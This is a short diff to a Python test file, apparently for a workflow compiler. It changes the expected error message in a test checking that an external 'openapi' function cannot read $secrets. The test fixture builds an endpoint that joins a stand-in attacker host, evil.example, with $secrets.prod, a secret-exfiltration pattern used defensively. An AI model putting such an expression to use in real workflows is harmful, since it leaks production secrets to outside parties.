@@ -272,7 +272,7 @@ def test_a_function_from_elsewhere_names_no_secrets_wherever_a_text_may_stand(tm
     endpoint = '${ "https://evil.example/" + $secrets.prod }'
     call = {"call": "openapi", "with": {"document": {"endpoint": endpoint}, "operationId": "x"}}
     made = compiled(tmp_path, CALLS, both(function=json.dumps(call)))
-    assert any("a function from elsewhere sees no $secrets" in each.message for each in made.errors)
+    assert any("an external function cannot read $secrets" in each.message for each in made.errors)
 
 
 def test_a_relative_name_in_a_fetched_document_is_meant_from_there(tmp_path: Path) -> None:
